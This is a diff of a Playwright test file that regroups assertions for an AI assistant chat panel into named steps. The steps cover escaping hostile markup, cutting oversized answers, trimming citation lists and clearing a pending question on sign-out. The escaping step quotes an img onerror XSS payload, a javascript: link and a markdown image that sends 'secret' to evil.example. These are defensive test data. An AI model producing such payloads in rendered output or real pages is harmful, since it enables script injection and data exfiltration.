@@ -40,41 +40,47 @@ test.describe('trouble', () => {
   }) => {
     await builder.open();
     await assistant.expand();
-    await assistant.ask(unique('{{hostile}} Who?'));
-    await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
-    await expect(assistant.conversation).toContainText(
-      '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
-    );
-    await expect(assistant.conversation.locator('img, script, iframe')).toHaveCount(0);
-    await assistant.conversation.getByRole('button', { name: 'Show sources (1)' }).click();
-    const links = await assistant.conversation
-      .getByRole('link')
-      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
-    expect(new Set(links)).toEqual(new Set(['https://good.example.org/source']));
-    expect(await page.evaluate(() => 'intruder' in window)).toBe(false);
-    expect(problems).toEqual([]);
-
-    await assistant.ask(unique('{{large}} Who?'));
-    await expect(assistant.panel.getByText('3 of 5 questions left today')).toBeVisible();
-    expect((await assistant.conversation.textContent())?.length).toBeLessThan(18_000);
-    // The answer scrolls into view even if the user has scrolled back.
-    await assistant.conversation.evaluate(
-      (list) =>
-        new Promise((resolve) => {
-          list.addEventListener('scroll', resolve, { once: true });
-          list.scrollTo({ top: 0 });
-        }),
-    );
-    await assistant.ask(unique('{{many-citations}} Who?'));
-    await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeInViewport();
-    const question = unique('{{hang}} Who?');
-    await assistant.ask(question);
-    await expect(assistant.conversation).toContainText(question);
-    await page.getByRole('button', { name: 'Account menu' }).click();
-    await page.getByRole('button', { name: 'Sign Out' }).click();
-    await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
-    await expect(assistant.conversation).not.toContainText(question);
-    await expect(assistant.field).toBeDisabled();
+    await test.step('markup and unsafe links stay text', async () => {
+      await assistant.ask(unique('{{hostile}} Who?'));
+      await expect(assistant.conversation).toContainText('<img src=x onerror="window.intruder=true">');
+      await expect(assistant.conversation).toContainText(
+        '![](https://evil.example/?q=secret) [click](javascript:window.intruder=true)',
+      );
+      await expect(assistant.conversation.locator('img, script, iframe')).toHaveCount(0);
+      await assistant.conversation.getByRole('button', { name: 'Show sources (1)' }).click();
+      const links = await assistant.conversation
+        .getByRole('link')
+        .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
+      expect(new Set(links)).toEqual(new Set(['https://good.example.org/source']));
+      expect(await page.evaluate(() => 'intruder' in window)).toBe(false);
+      expect(problems).toEqual([]);
+    });
+    await test.step('a megabyte is cut', async () => {
+      await assistant.ask(unique('{{large}} Who?'));
+      await expect(assistant.panel.getByText('3 of 5 questions left today')).toBeVisible();
+      expect((await assistant.conversation.textContent())?.length).toBeLessThan(18_000);
+    });
+    await test.step('500 sources are cut, and the answer scrolls into view even if the user has scrolled back', async () => {
+      await assistant.conversation.evaluate(
+        (list) =>
+          new Promise((resolve) => {
+            list.addEventListener('scroll', resolve, { once: true });
+            list.scrollTo({ top: 0 });
+          }),
+      );
+      await assistant.ask(unique('{{many-citations}} Who?'));
+      await expect(assistant.conversation.getByRole('button', { name: 'Show sources (20)' })).toBeInViewport();
+    });
+    await test.step('signing out removes a question still waiting for its answer', async () => {
+      const question = unique('{{hang}} Who?');
+      await assistant.ask(question);
+      await expect(assistant.conversation).toContainText(question);
+      await page.getByRole('button', { name: 'Account menu' }).click();
+      await page.getByRole('button', { name: 'Sign Out' }).click();
+      await expect(assistant.panel.getByText('Authentication Required')).toBeVisible();
+      await expect(assistant.conversation).not.toContainText(question);
+      await expect(assistant.field).toBeDisabled();
+    });
   });
 });
 
